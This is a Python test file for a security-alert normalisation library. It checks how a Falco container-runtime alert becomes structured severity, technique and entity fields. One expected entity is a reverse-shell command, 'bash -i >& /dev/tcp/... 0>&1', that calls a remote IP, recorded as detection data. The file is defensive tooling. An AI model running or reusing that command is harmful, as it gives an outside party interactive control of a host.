from __future__ import annotations

from datetime import UTC, datetime

import pytest

from affidavit.errors import InputError
from affidavit.intake import Severity, normalize

from .._shared import entity_set, shape_samples, vendor_sample


def test_falco_event_normalises() -> None:
    raw = vendor_sample("falco.json")
    alert = normalize(raw)
    assert alert.vendor == "falco"
    assert alert.title == "Redirect STDOUT/STDIN to Network Connection in Container"
    assert alert.severity is Severity.CRITICAL
    assert alert.severity_raw == "Critical"
    assert alert.techniques == ("T1059.004",)
    assert alert.category == "execution"
    assert alert.created == datetime(2025, 1, 20, 11, 45, 22, 384726, tzinfo=UTC)
    assert alert.description.startswith("2025-01-20T11:45:22.384726153+0000: Critical Redirect")
    assert entity_set(alert) == {
        ("host", "k8s-worker-node-03", "impacted"),
        ("user", "www-data", "actor"),
        ("process", "bash -i >& /dev/tcp/155.94.163.103/8080 0>&1", "actor"),
        ("process", "apache2", "parent"),
        ("ip", "155.94.163.103", "remote"),
        ("ip", "10.244.2.15", "destination"),
        ("cloud_resource", "docker.io/library/httpd:2.4", "container_image"),
        (
            "cloud_resource",
            "namespaces/production/pods/httpd-deployment-7c8d9e0f1a-q2w3e",
            "impacted",
        ),
    }


def test_event_without_uuid_gets_a_content_derived_id() -> None:
    raw = vendor_sample("falco.json")
    first, again = normalize(raw), normalize(dict(raw))
    assert first.vendor_alert_id.startswith("sha256:")
    assert first.vendor_alert_id == again.vendor_alert_id
    changed = normalize(raw | {"output": raw["output"] + " "})
    assert changed.vendor_alert_id != first.vendor_alert_id
    assert normalize(raw | {"uuid": "1b4e28ba-2fa1"}).vendor_alert_id == "1b4e28ba-2fa1"


def test_connection_fd_name_gives_both_ends() -> None:
    raw = vendor_sample("falco.json")
    raw["output_fields"] = {"fd.name": "10.244.2.15:48392->203.0.113.7:443"}
    entities = entity_set(normalize(raw))
    assert ("ip", "10.244.2.15", "source") in entities
    assert ("ip", "203.0.113.7", "destination") in entities


@pytest.mark.parametrize(
    ("priority", "expected"),
    [
        ("Emergency", Severity.CRITICAL),
        ("Error", Severity.HIGH),
        ("Warning", Severity.MEDIUM),
        ("Notice", Severity.LOW),
        ("Informational", Severity.INFORMATIONAL),
        ("Debug", Severity.INFORMATIONAL),
    ],
)
def test_priorities(priority: str, expected: Severity) -> None:
    assert normalize(vendor_sample("falco.json") | {"priority": priority}).severity is expected


def test_event_without_time_is_refused() -> None:
    raw = vendor_sample("falco.json")
    del raw["time"]
    del raw["output_fields"]["evt.time"]
    with pytest.raises(InputError, match="time"):
        normalize(raw)


def test_real_shaped_events_name_the_container_image_and_audit_source() -> None:
    execve, shadow, audit = (normalize(e) for e in shape_samples("falco", "events.json"))
    assert execve.severity is Severity.CRITICAL
    assert execve.techniques == ("T1610",)
    image = ("cloud_resource", "registry.example.com/team/api:1.9.2", "container_image")
    assert image in entity_set(execve)
    assert ("process", "bash -i", "parent") in entity_set(shadow)
    assert ("ip", "10.0.8.31", "source") in entity_set(audit)
    assert audit.category == "k8s_audit"
